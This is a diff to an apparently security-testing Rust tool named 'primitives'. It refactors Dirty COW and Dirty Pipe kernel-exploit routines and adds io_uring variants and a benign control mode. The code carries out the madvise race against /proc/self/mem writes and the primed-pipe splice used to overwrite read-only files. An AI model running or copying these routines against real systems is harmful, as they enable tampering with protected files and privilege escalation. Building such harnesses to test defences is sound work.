@@ -8,7 +8,10 @@
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
 //!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
-//!        fchdir FD CMD | flood open|ns PATH SECS>
+//!        fchdir FD CMD | flood open|ns PATH SECS | iouring-dirtypipe FILE | iouring-procmem |
+//!        iouring-dirtycow FILE | iouring-benign>
+
+mod iouring;
 
 use std::{
     ffi::CString,
@@ -24,6 +27,15 @@ use std::{
 fn fail(what: &str) -> ! {
     eprintln!("primitives: {what}: {}", std::io::Error::last_os_error());
     exit(1)
+}
+
+/// The process's own memory, open for reading and writing.
+fn self_mem() -> std::fs::File {
+    OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"))
 }
 
 /// FILE mapped read-only and private, the target both Dirty COW variants race on: (address,
@@ -52,23 +64,33 @@ fn map_readonly_private(path: &str) -> (usize, usize) {
 /// Dirty COW: map FILE read-only and private; one thread discards the pages, another forces
 /// writes into the mapping through /proc/self/mem.
 fn dirtycow(path: &str) {
+    let (discards, writes, addr) = cow_race(path, |addr, len| {
+        // SAFETY: our own mapping.
+        unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
+    });
+    println!("dirtycow: {discards} discards, {writes} forced writes at {addr:#x}");
+}
+
+/// The Dirty COW race on FILE mapped read-only and private: a thread calls `discard(addr,
+/// len)` on the mapping (madvise(2), an io_uring request) every millisecond while this one
+/// forces writes into it through /proc/self/mem, for at most 500 ms or 200 of each. Returns
+/// (discards, forced writes, address).
+fn cow_race(
+    path: &str,
+    mut discard: impl FnMut(usize, usize) + Send + 'static,
+) -> (u64, u64, usize) {
     let (addr, len) = map_readonly_private(path);
     static STOP: AtomicBool = AtomicBool::new(false);
-    let discard = thread::spawn(move || {
+    let discarder = thread::spawn(move || {
         let mut n = 0u64;
         while !STOP.load(Ordering::Relaxed) && n < 200 {
-            // SAFETY: our own mapping.
-            unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
+            discard(addr, len);
             n += 1;
             thread::sleep(Duration::from_millis(1));
         }
         n
     });
-    let mem = OpenOptions::new()
-        .read(true)
-        .write(true)
-        .open("/proc/self/mem")
-        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    let mem = self_mem();
     let start = Instant::now();
     let mut writes = 0u64;
     while start.elapsed() < Duration::from_millis(500) && writes < 200 {
@@ -77,8 +99,7 @@ fn dirtycow(path: &str) {
         thread::sleep(Duration::from_millis(1));
     }
     STOP.store(true, Ordering::Relaxed);
-    let discards = discard.join().unwrap_or(0);
-    println!("dirtycow: {discards} discards, {writes} forced writes at {addr:#x}");
+    (discarder.join().unwrap_or(0), writes, addr)
 }
 
 /// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
@@ -161,6 +182,29 @@ fn dirtypipe_via(how: &str, path: &str) {
 /// A pipe primed so that every buffer slot was used once, then one byte of the read-only FILE
 /// spliced into it: the state Dirty Pipe's write abuses.
 fn spliced_pipe(path: &str) -> [i32; 2] {
+    let fds = primed_pipe();
+    let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
+    let mut off: libc::loff_t = 0;
+    // SAFETY: splice between descriptors we own, with our own offset.
+    if unsafe {
+        libc::splice(
+            file.as_raw_fd(),
+            &mut off,
+            fds[1],
+            std::ptr::null_mut(),
+            1,
+            0,
+        )
+    } != 1
+    {
+        fail("splice");
+    }
+    fds
+}
+
+/// A pipe every buffer slot of which was filled and drained once (so each carries the
+/// "can merge" flag Dirty Pipe leaves behind); empty.
+fn primed_pipe() -> [i32; 2] {
     let mut fds = [0i32; 2];
     // SAFETY: plain syscalls on descriptors we own.
     unsafe {
@@ -181,19 +225,6 @@ fn spliced_pipe(path: &str) -> [i32; 2] {
             let n = left.min(sink.len());
             libc::read(fds[0], sink.as_mut_ptr().cast(), n);
             left -= n;
-        }
-        let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
-        let mut off: libc::loff_t = 0;
-        if libc::splice(
-            file.as_raw_fd(),
-            &mut off,
-            fds[1],
-            std::ptr::null_mut(),
-            1,
-            0,
-        ) != 1
-        {
-            fail("splice");
         }
     }
     fds
@@ -258,11 +289,7 @@ fn procmem_inherited() {
         iov_base: word.as_ptr() as *mut libc::c_void,
         iov_len: word.len(),
     };
-    let mem = OpenOptions::new()
-        .read(true)
-        .write(true)
-        .open("/proc/self/mem")
-        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    let mem = self_mem();
     // SAFETY: fork in a single-threaded process; the child makes one syscall and exits.
     unsafe {
         let child = libc::fork();
@@ -299,11 +326,7 @@ fn benign_writes() {
         .truncate(true)
         .open("/tmp/benign-out")
         .unwrap_or_else(|_| fail("open output"));
-    let mem = OpenOptions::new()
-        .read(true)
-        .write(true)
-        .open("/proc/self/mem")
-        .unwrap_or_else(|_| fail("open /proc/self/mem"));
+    let mem = self_mem();
     let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
     // SAFETY: plain syscalls on descriptors we own; the buffers outlive each call.
     unsafe {
@@ -835,6 +858,10 @@ fn main() {
         Some("setns32") => setns32(&arg(2), &arg(3)),
         Some("setns") => setns64(&arg(2), &arg(3)),
         Some("iouring-open") => iouring_open(&arg(2), &arg(3)),
+        Some("iouring-dirtypipe") => iouring::dirtypipe(&arg(2)),
+        Some("iouring-procmem") => iouring::procmem(),
+        Some("iouring-dirtycow") => iouring::dirtycow(&arg(2)),
+        Some("iouring-benign") => iouring::benign(),
         Some("fsmount-read") => fsmount_read(&arg(2), &arg(3), &arg(4)),
         #[cfg(target_arch = "x86_64")]
         Some("int80") => int80(&arg(2), &args[3..]),
@@ -846,7 +873,7 @@ fn main() {
         ),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns PATH SECS>"
+                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns PATH SECS|iouring-dirtypipe FILE|iouring-procmem|iouring-dirtycow FILE|iouring-benign>"
             );
             exit(2);
         }
